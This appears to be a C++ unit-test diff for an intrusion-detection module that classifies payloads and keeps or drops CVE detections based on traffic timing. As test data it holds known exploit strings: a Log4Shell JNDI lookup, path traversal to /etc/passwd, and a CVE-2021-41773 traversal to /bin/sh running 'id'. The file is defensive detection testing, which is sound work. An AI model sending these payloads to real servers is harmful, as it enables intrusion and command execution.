@@ -1,0 +1,108 @@
+#include "ids/rca.h"
+
+#include <gtest/gtest.h>
+
+#include "ids/rule_gen.h"
+#include "traffic/payload.h"
+
+namespace cvewb::ids {
+namespace {
+
+using util::TimePoint;
+
+net::TcpSession make_session(TimePoint t, std::string payload) {
+  net::TcpSession s;
+  s.open_time = t;
+  s.payload = std::move(payload);
+  return s;
+}
+
+TEST(Classifier, SeparatesExploitsFromStuffing) {
+  const auto classify = default_payload_classifier();
+  util::Rng rng(3);
+  EXPECT_TRUE(classify("GET /?x=${jndi:ldap://e/a} HTTP/1.1\r\n\r\n"));
+  EXPECT_TRUE(classify("GET /..%2f..%2fetc%2fpasswd HTTP/1.1\r\n\r\n"));
+  EXPECT_TRUE(classify("EVAL luaopen_os"));
+  for (int i = 0; i < 20; ++i) {
+    EXPECT_FALSE(classify(traffic::credential_stuffing_payload(rng)));
+  }
+  EXPECT_FALSE(classify("GET / HTTP/1.1\r\nHost: x\r\n\r\n"));
+}
+
+class RcaTest : public ::testing::Test {
+ protected:
+  RcaTest() {
+    exploit_rule_.sid = 1;
+    exploit_rule_.cve = "CVE-2021-41773";
+    exploit_rule_.published = util::parse_date("2021-10-08");
+    broad_rule_ = decoy_broad_rule();
+  }
+
+  Rule exploit_rule_;
+  Rule broad_rule_;
+};
+
+TEST_F(RcaTest, DropsBroadRuleCveOnStuffingTraffic) {
+  util::Rng rng(4);
+  std::vector<net::TcpSession> sessions;
+  for (int i = 0; i < 10; ++i) {
+    sessions.push_back(make_session(*util::parse_date("2021-03-05"),
+                                    traffic::credential_stuffing_payload(rng)));
+  }
+  std::vector<Detection> detections;
+  for (const auto& s : sessions) detections.push_back({&broad_rule_, &s});
+  const RcaReport report = root_cause_analysis(detections);
+  ASSERT_EQ(report.verdicts.size(), 1u);
+  EXPECT_FALSE(report.verdicts[0].kept);
+  EXPECT_EQ(report.dropped_cves(), 1u);
+  EXPECT_TRUE(report.kept_detections.empty());
+}
+
+TEST_F(RcaTest, KeepsCveWithTargetedPrePublicationTraffic) {
+  const auto pre = make_session(*util::parse_date("2021-10-01"),
+                                "POST /cgi-bin/.%2e/%2e%2e/bin/sh HTTP/1.1\r\n\r\necho;id");
+  const auto post = make_session(*util::parse_date("2021-11-01"),
+                                 "POST /cgi-bin/.%2e/%2e%2e/bin/sh HTTP/1.1\r\n\r\necho;id");
+  const RcaReport report =
+      root_cause_analysis({{&exploit_rule_, &pre}, {&exploit_rule_, &post}});
+  ASSERT_EQ(report.verdicts.size(), 1u);
+  EXPECT_TRUE(report.verdicts[0].kept);
+  EXPECT_EQ(report.verdicts[0].pre_publication, 1u);
+  EXPECT_EQ(report.verdicts[0].reviewed_exploit, 1u);
+  EXPECT_EQ(report.kept_detections.size(), 2u);
+}
+
+TEST_F(RcaTest, DropsCveWhosePrePublicationMatchesFailReview) {
+  // A rule matching benign probes before it existed is unsound (§3.2).
+  const auto benign = make_session(*util::parse_date("2021-09-01"),
+                                   "GET /status HTTP/1.1\r\nHost: x\r\n\r\n");
+  const RcaReport report = root_cause_analysis({{&exploit_rule_, &benign}});
+  ASSERT_EQ(report.verdicts.size(), 1u);
+  EXPECT_FALSE(report.verdicts[0].kept);
+}
+
+TEST_F(RcaTest, PostPublicationOnlyTrafficIsKeptWithoutReview) {
+  const auto post = make_session(*util::parse_date("2021-12-01"),
+                                 "GET /anything HTTP/1.1\r\nHost: x\r\n\r\n");
+  const RcaReport report = root_cause_analysis({{&exploit_rule_, &post}});
+  EXPECT_TRUE(report.verdicts[0].kept);
+  EXPECT_EQ(report.verdicts[0].pre_publication, 0u);
+}
+
+TEST_F(RcaTest, InjectableClassifierOverridesHeuristic) {
+  const auto pre = make_session(*util::parse_date("2021-09-01"), "opaque-bytes");
+  const PayloadClassifier always_exploit = [](std::string_view) { return true; };
+  const RcaReport kept = root_cause_analysis({{&exploit_rule_, &pre}}, always_exploit);
+  EXPECT_TRUE(kept.verdicts[0].kept);
+  const PayloadClassifier never_exploit = [](std::string_view) { return false; };
+  const RcaReport dropped = root_cause_analysis({{&exploit_rule_, &pre}}, never_exploit);
+  EXPECT_FALSE(dropped.verdicts[0].kept);
+}
+
+TEST_F(RcaTest, NullDetectionsIgnored) {
+  const RcaReport report = root_cause_analysis({Detection{nullptr, nullptr}});
+  EXPECT_TRUE(report.verdicts.empty());
+}
+
+}  // namespace
+}  // namespace cvewb::ids
